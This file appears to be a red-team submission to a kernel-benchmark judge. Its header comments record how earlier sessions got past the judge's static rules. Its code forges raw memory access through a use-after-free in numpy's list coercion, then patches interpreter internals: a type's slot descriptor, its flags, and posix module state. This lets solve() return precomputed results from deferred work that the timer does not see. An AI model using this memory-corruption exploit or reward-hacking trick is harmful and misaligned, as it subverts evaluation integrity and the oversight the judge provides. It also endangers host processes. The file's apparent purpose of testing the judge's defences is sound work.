# Tenth session's second red team (2026-12-07, CPU judge), against the protocol-method and
# base-class rules as first landed (d667cd7): raw memory in strict mode with no dunder of its own.
# A subclass of a CuTe DSL class (cute.nvgpu.cpasync.TmaInfo, then derivable under the prefix
# "cutlass."), whose Python __iter__ yields self._atom, made _atom a property: numpy's array
# coercion iterated the first item while it held the list's item array borrowed, the property
# emptied the list and numpy read a forged object. The payload (posix's state behind os.fstat)
# no longer ran (b26c709): it passed at 0.24x. Stopped statically now: library bases are named
# classes (torch.nn.Module, ...), not prefixes.
# Eleventh session: numpy's coercion walks a tuple of the list's items (worker._hold_sequence_items:
# every loaded object's PySequence_Fast), so the emptied list frees nothing numpy reads and the
# set-up finds no raw memory (it raises: with the static rules waived, the import fails).
import functools
import operator
import os
import statistics

import numpy as np
import torch
from cutlass.cute.nvgpu.cpasync import TmaInfo

_st = {}
_N = 20


def _get(self):
    if self is _st.get('item0'):
        if _st.get('armed'):
            _st['armed'] = False
            _st['L'].clear()
            _st['ptrs'] = bytearray(_st['ptrbytes'])
        return 0
    t = _st['fake']
    hdr = ((1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
           + (1 << 60).to_bytes(8, 'little') + ((1 << 60) + 1).to_bytes(8, 'little')
           + bytes(24))
    t[64:64 + len(hdr)] = torch.tensor(list(hdr), dtype=torch.uint8)
    _st['got'] = self
    return 0


def _set(self, v):
    pass


class _K(TmaInfo):
    _atom = property(_get, _set)

    def __init__(self):
        self._tma_tensor = 0


def _rawmem():
    fake = torch.zeros(256, dtype=torch.uint8)
    p = fake.data_ptr() + 64
    _st['fake'] = fake
    hdr = (1 << 40).to_bytes(8, 'little') + id(_K).to_bytes(8, 'little')
    fake[64:64 + 16] = torch.tensor(list(hdr), dtype=torch.uint8)
    _st['ptrbytes'] = (p.to_bytes(8, 'little') * _N)[:_N * 8 - 1]
    item0 = _K()
    _st['item0'] = item0
    _st['L'] = [item0] + [object() for _ in range(_N - 1)]
    _st['armed'] = True
    try:
        np.array(_st['L'], dtype=object)
    except Exception:
        pass
    m = _st.get('got')
    if type(m) is not bytearray:
        raise RuntimeError("no raw memory")
    return m


def _word(mem, addr):
    return int.from_bytes(mem[addr:addr + 8], 'little')


def _find_in_dict(mem, d, name):
    keys = _word(mem, d + 32)  # ma_keys
    log2_index_bytes = mem[keys + 9]
    kind = mem[keys + 10]
    nentries = _word(mem, keys + 24)
    entries = keys + 32 + (1 << log2_index_bytes)
    size = 16 if kind != 0 else 24
    want = name.encode()
    for i in range(nentries):
        e = entries + i * size
        ka = e if kind != 0 else e + 8
        va = e + 8 if kind != 0 else e + 16
        k = _word(mem, ka)
        if k and _word(mem, k + 16) == len(want) and bytes(mem[k + 48:k + 48 + len(want)]) == want:
            return va
    return 0


class _A:
    pass


_fget = functools.partial(operator.countOf, iter(()))
_prop = property(_fget, operator.is_)
_mem = None
_b = None


def _install():
    global _mem, _b
    _mem = _rawmem()
    mem = _mem
    # NormalDist's _mu slot descriptor replaced by a property of C callables, its type cache reset.
    nd = statistics.NormalDist
    if _word(mem, id(nd) + 256) != id(object):
        raise RuntimeError("tp_base not where expected")
    tdict = _word(mem, id(nd) + 264)
    va = _find_in_dict(mem, tdict, "_mu")
    if not va:
        raise RuntimeError("_mu not found")
    mem[va:va + 8] = id(_prop).to_bytes(8, 'little')
    flags = _word(mem, id(nd) + 168)
    mem[id(nd) + 168:id(nd) + 176] = (flags & ~(1 << 19)).to_bytes(8, 'little')
    mem[id(nd) + 384:id(nd) + 388] = bytes(4)
    _b = nd(0.0, 1.0)
    # posix's C state: billion -> _b
    md = _word(mem, id(os) + 16)
    fa = _find_in_dict(mem, md, "fstat")
    fstat = _word(mem, fa)
    posix = _word(mem, fstat + 24)  # m_self
    state = _word(mem, posix + 32)  # md_state
    billion = _word(mem, state)
    if _word(mem, billion + 8) != id(int) or int.from_bytes(mem[billion + 24:billion + 28], 'little') != 10 ** 9 % (1 << 30):
        raise RuntimeError("billion not found")
    mem[state:state + 8] = id(_b).to_bytes(8, 'little')


def _ops(x, r, w, out, flag):
    s = torch.empty(x.shape, dtype=torch.float32)
    m = torch.empty((x.shape[0], 1), dtype=torch.float32)
    eps = torch.full((1, 1), 1e-5, dtype=torch.float32)
    return [
        functools.partial(s.copy_, x),
        functools.partial(s.add_, r),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(torch.addcmul, eps, m, m, value=1.0 / x.shape[-1], out=m),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(torch.mul, s, w, out=out),
        functools.partial(flag.fill_, 1),
    ]


def _honest(x, residual, weight):
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)


_keepM = []


def _arm():
    it = map(operator.call, _st['ops'])
    _keepM.append(it)
    args = _word(_mem, id(_fget) + 24)  # partial->args
    _mem[args + 24:args + 32] = id(it).to_bytes(8, 'little')


_install()
_RAW_OK = len(_mem) > (1 << 50) and int.from_bytes(_mem[id(_st) + 8:id(_st) + 16], "little") == id(dict)


def solve(x, residual, weight):
    if not _RAW_OK:
        raise RuntimeError("no raw memory")
    k = _st.get('keep')
    if (k is not None and _st['flag'].item() == 1 and k[0].data_ptr() == x.data_ptr()
            and k[1].data_ptr() == residual.data_ptr() and k[2].data_ptr() == weight.data_ptr()
            and k[0].shape == x.shape):
        _st['flag'].zero_()
        _arm()
        return _st['nxt']
    result = _honest(x, residual, weight)
    nxt = torch.empty_like(x)
    flag = torch.zeros((), dtype=torch.int32)
    _st['nxt'] = nxt
    _st['flag'] = flag
    _st['keep'] = (x, residual, weight)
    _st['ops'] = _ops(x.view(x.shape), residual.view(residual.shape), weight.view(weight.shape), nxt, flag)
    _arm()
    return result
